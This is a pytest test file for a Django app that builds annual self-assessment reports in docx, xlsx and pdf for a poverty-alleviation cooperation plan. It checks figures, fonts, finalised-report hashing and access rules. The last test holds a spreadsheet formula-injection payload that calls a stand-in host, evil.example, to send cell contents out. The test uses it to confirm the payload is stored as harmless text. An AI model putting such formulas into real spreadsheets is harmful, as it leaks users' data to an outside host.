"""The annual self-assessment: three formats with the fixture's numbers, comments, finalising."""

import datetime
import shutil
import subprocess
from pathlib import Path
from urllib.parse import unquote

import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command
from openpyxl import load_workbook

from xiezuo.plan.models import FinalisedReport, Target
from xiezuo.plan.report import build_report, docx_text, report_data
from xiezuo.plan.services import comment_add, report_dir, report_finalise, report_verify


@pytest.fixture
def year_2018(plan, users, approved_entry, fake_parts):
    t = {x.key: x for x in plan.targets.all()}
    approved_entry(t["teachers-trained"], 2018, 18)
    approved_entry(t["cadre-training-people"], 2018, 25)
    approved_entry(t["joint-meeting"], 2018, 1, venue_side="east")
    comment_add(actor=users["east_officer"], plan=plan, year=2018,
                text="仓山方面认可临洮县2018年度自评，教师培训人数不足请于次年补齐。")
    return plan


def test_report_in_three_formats_with_the_fixture_numbers(year_2018, users, tmp_path,
        skip_or_fail_in_ci):
    data = report_data(plan=year_2018, year=2018, user=users["county_admin"],
                       as_of=datetime.date(2019, 1, 15))
    paths = build_report(data, out_dir=tmp_path)
    assert set(paths) == {"docx", "xlsx", "pdf"}
    text = docx_text(paths["docx"])
    assert "仓山·临洮东西部扶贫协作规划2018年度工作自评报告" in text
    assert "每年培训临洮县幼儿园、小学和中学教师30名" in text
    assert "18 名" in text and "≥ 30 名/年" in text
    assert "4,800,000 元" in text  # funds from the (fake) funds selector
    assert "教师培训人数不足" in text  # the partner's comment
    from docx import Document

    doc = Document(str(paths["docx"]))
    fonts = {r.element.rPr.rFonts.get(
        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}eastAsia")
        for p in doc.paragraphs for r in p.runs if r.element.rPr is not None}
    assert {"仿宋_GB2312", "黑体", "方正小标宋简体"} <= fonts
    assert len(doc.inline_shapes) == 2  # the two charts
    wb = load_workbook(paths["xlsx"])
    ws = wb["2018年度考核"]
    header = [c.value for c in ws[1]]
    text_of = {t.text_zh: t.key for t in year_2018.targets.all()}
    rows = {text_of[r[header.index("目标")]]: r for r in ws.iter_rows(min_row=2, values_only=True)}
    assert rows["teachers-trained"][header.index("数值")] == 18
    assert rows["teachers-trained"][header.index("状态")] == "未完成"
    assert rows["cadre-training-people"][header.index("状态")] == "已完成"
    assert rows["funds-minimum"][header.index("数值")] == 4800000
    assert rows["joint-meeting"][header.index("状态")] == "已完成"
    assert "第5章人才支援" in wb.sheetnames and "汇总填报明细" in wb.sheetnames
    ch5 = wb["第5章人才支援"]
    hist = [r for r in ch5.iter_rows(min_row=2, values_only=True)
            if text_of.get(r[0]) == "teachers-trained"]
    assert [(r[1], r[2]) for r in hist] == [(2017, None), (2018, 18), (2019, None), (2020, None)]
    pdf = paths["pdf"].read_bytes()
    assert pdf.startswith(b"%PDF")
    if not shutil.which("pdftotext"):
        skip_or_fail_in_ci("pdftotext is not installed (apt-get install poppler-utils)")
    out = subprocess.run(["pdftotext", str(paths["pdf"]), "-"], capture_output=True,
                         text=True, check=True).stdout
    assert "2018年度工作自评报告" in out.replace("\n", "") and "18 名" in out


def test_command_line_report(year_2018, tmp_path, capsys):
    call_command("assessment_report", "--year", "2018", "--out", str(tmp_path))
    files = sorted(p.suffix for p in tmp_path.iterdir() if p.stem.endswith("assessment"))
    assert files == [".docx", ".pdf", ".xlsx"]


def test_finalised_report_is_numbered_hashed_and_cannot_change(year_2018, users, make_evidence):
    report = report_finalise(actor=users["county_admin"], plan=year_2018, year=2018)
    assert report.number == "临协办〔2018〕1号" and len(report.sha256) == 64
    assert report_verify(report) == {"docx": True, "xlsx": True, "pdf": True}
    kept = report_dir() / report.files["docx"]["path"]
    assert "临协办〔2018〕1号" in docx_text(kept)
    snap = {r["key"]: r for r in report.snapshot["rows"]}
    assert snap["teachers-trained"]["number"] == "18.00"
    report.number = "changed"
    with pytest.raises(ValidationError):
        report.save()
    with pytest.raises(ValidationError):
        FinalisedReport.objects.filter(pk=report.pk).update(number="changed")
    with pytest.raises(ValidationError):
        report.delete()
    with pytest.raises(ValidationError):
        FinalisedReport.objects.all().delete()
    assert FinalisedReport.objects.get(pk=report.pk).number == "临协办〔2018〕1号"
    # later changes make a new version; the first stays as it was
    approved = Target.objects.get(plan=year_2018, key="teachers-trained")
    from xiezuo.plan.services import entry_create, entry_decide
    from xiezuo.regions.models import Area

    e = entry_create(actor=users["county_admin"], target=approved, year=2018,
                     area=Area.objects.get(code="621124000000"), value=12,
                     evidence=make_evidence())
    entry_decide(actor=users["east_officer"], entry=e, approve=True)
    second = report_finalise(actor=users["county_admin"], plan=year_2018, year=2018)
    assert second.number == "临协办〔2018〕2号" and second.sha256 != report.sha256
    assert {r["key"]: r for r in second.snapshot["rows"]}["teachers-trained"]["number"] == "30.00"
    # a changed file is detected
    kept.chmod(0o644)
    kept.write_bytes(b"tampered")
    assert report_verify(FinalisedReport.objects.get(pk=report.pk))["docx"] is False


def test_assessment_page_comments_generate_finalise(year_2018, users, client):
    client.force_login(users["township_clerk"])
    assert client.get("/plan/assessment/2018/").status_code == 403
    client.force_login(users["auditor"])
    assert client.get("/plan/assessment/2018/").status_code == 200
    assert client.post("/plan/assessment/2018/comments/", {"text": "x"}).status_code == 403
    assert client.post("/plan/assessment/2018/finalise/").status_code == 403
    client.force_login(users["leadership"])
    r = client.post("/plan/assessment/2018/comments/", {"text": "领导小组：同意。"}, follow=True)
    assert "领导小组：同意。" in r.content.decode()
    r = client.post("/plan/assessment/2018/generate/")
    assert r.status_code == 302 and "/jobs/" in r["Location"]
    job_page = client.get(r["Location"])
    assert job_page.context["job"].status == "done", job_page.context["job"].message
    draft_url = job_page.context["job"].result_url
    for fmt in ("docx", "xlsx", "pdf"):
        d = client.get(f"{draft_url}{fmt}/")
        assert d.status_code == 200 and len(b"".join(d.streaming_content)) > 1000
        assert f"2018 年度自评报告（草稿）.{fmt}" in unquote(d["Content-Disposition"])
    client.force_login(users["county_admin"])  # another user cannot fetch that draft
    assert client.get(f"{draft_url}docx/").status_code == 404
    r = client.post("/plan/assessment/2018/finalise/", follow=True)
    assert "临协办〔2018〕1号" in r.content.decode()
    report = FinalisedReport.objects.get()
    client.force_login(users["leadership"])
    d = client.get(f"/plan/reports/{report.pk}/pdf/")
    assert d.status_code == 200 and b"".join(d.streaming_content).startswith(b"%PDF")
    assert "2018 年度自评报告（临协办〔2018〕1号）.pdf" in unquote(d["Content-Disposition"])
    assert Path(report_dir() / report.files["pdf"]["path"]).stat().st_mode & 0o222 == 0


def test_a_comment_that_looks_like_a_formula_is_text_in_the_xlsx(year_2018, users, client,
                                                                   tmp_path):
    """A partner's comment (from the assessment page) reaches the .xlsx as text (tabular.safe)."""
    import re
    import zipfile

    evil = '=HYPERLINK("http://evil.example/?c="&A1,"详见")'
    client.force_login(users["leadership"])
    assert client.post("/plan/assessment/2018/comments/", {"text": evil}).status_code == 302
    data = report_data(plan=year_2018, year=2018, user=users["county_admin"],
                       as_of=datetime.date(2019, 1, 15))
    path = build_report(data, out_dir=tmp_path, formats=("xlsx",))["xlsx"]
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(r"<f[ >]", z.read(name).decode()), name
    ws = load_workbook(path)["评议意见"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
